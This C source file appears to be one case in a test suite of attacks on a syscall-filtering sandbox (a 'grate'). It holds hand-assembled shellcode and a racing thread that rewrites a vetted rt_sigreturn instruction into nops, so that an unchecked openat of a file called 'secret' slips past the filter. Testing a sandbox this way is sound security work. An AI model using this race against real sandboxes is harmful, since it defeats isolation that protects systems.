/*
** sigreturn.c - another call in the place of rt_sigreturn
**
** The grate makes a call before it lets an rt_sigreturn go on, which is made by the program's own
** instruction once more. Another thread puts two nops in its place, behind which another call is.
*/

#include "attack.h"

#include <pthread.h>
#include <stdatomic.h>
#include <sys/mman.h>

#define SA_RESTORER 0x04000000
enum { SITE = 6 };

static const unsigned char code[] = {
    0x90, 0xb8, 0x0f, 0,    0,    0,                   /*  0: nop; mov $15, %eax */
    0x0f, 0x05,                                        /*  6: syscall: rt_sigreturn */
    0x48, 0xbe, 0,    0,    0,    0,    0,    0, 0, 0, /*  8: mov $path, %rsi */
    0x48, 0xc7, 0xc7, 0x9c, 0xff, 0xff, 0xff,          /* 18: mov $-100, %rdi */
    0x31, 0xd2, 0xb8, 0x01, 0x01, 0,    0,             /* 25: xor %edx, %edx; mov $257, %eax */
    0x0f, 0x05,                                        /* 32: syscall: openat */
    0x48, 0xbb, 0,    0,    0,    0,    0,    0, 0, 0, /* 34: mov $fd, %rbx */
    0x89, 0x03, 0xb8, 0x0f, 0,    0,    0,             /* 44: mov %eax, (%rbx); mov $15, %eax */
    0x0f, 0x05,                                        /* 51: syscall: rt_sigreturn */
};

static char path[] = "secret";
static int opened = -1;
static unsigned char *text;

struct action {
  void (*handler)(int);
  unsigned long flags;
  void *restorer;
  uint64_t mask;
};

static void on_signal(int sig) {
  (void)sig;
}

static void *writer(void *ud) {
  _Atomic uint16_t *site = (_Atomic uint16_t *)(void *)(text + SITE);
  unsigned seed = 1;
  (void)ud;
  for (;;) {
    volatile unsigned i, n = (unsigned)rand_r(&seed) % 20000;
    atomic_store(site, 0x050f);
    for (i = 0; i < n; i++) continue;
    atomic_store(site, 0x9090);
    for (i = 0; i < n; i++) continue;
  }
  return NULL;
}

int main(int argc, char *argv[]) {
  int tries = argc > 1 ? atoi(argv[1]) : 100, i;
  uint64_t at;
  struct action sa = {on_signal, SA_RESTORER, NULL, 0};
  pthread_t thread;
  text = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (text == MAP_FAILED) fails("mmap");
  memcpy(text, code, sizeof code);
  at = (uintptr_t)path;
  memcpy(text + 10, &at, sizeof at);
  at = (uintptr_t)&opened;
  memcpy(text + 36, &at, sizeof at);
  sa.restorer = text;
  if (syscall(SYS_rt_sigaction, SIGUSR1, &sa, NULL, sizeof sa.mask) != 0) fails("rt_sigaction");
  if (pthread_create(&thread, NULL, writer, NULL) != 0) fails("pthread_create");
  for (i = 1; i <= tries; i++) {
    syscall(SYS_tgkill, getpid(), gettid(), SIGUSR1);
    if (opened >= 0) won("in the place of rt_sigreturn", i);
  }
  lost(tries);
}
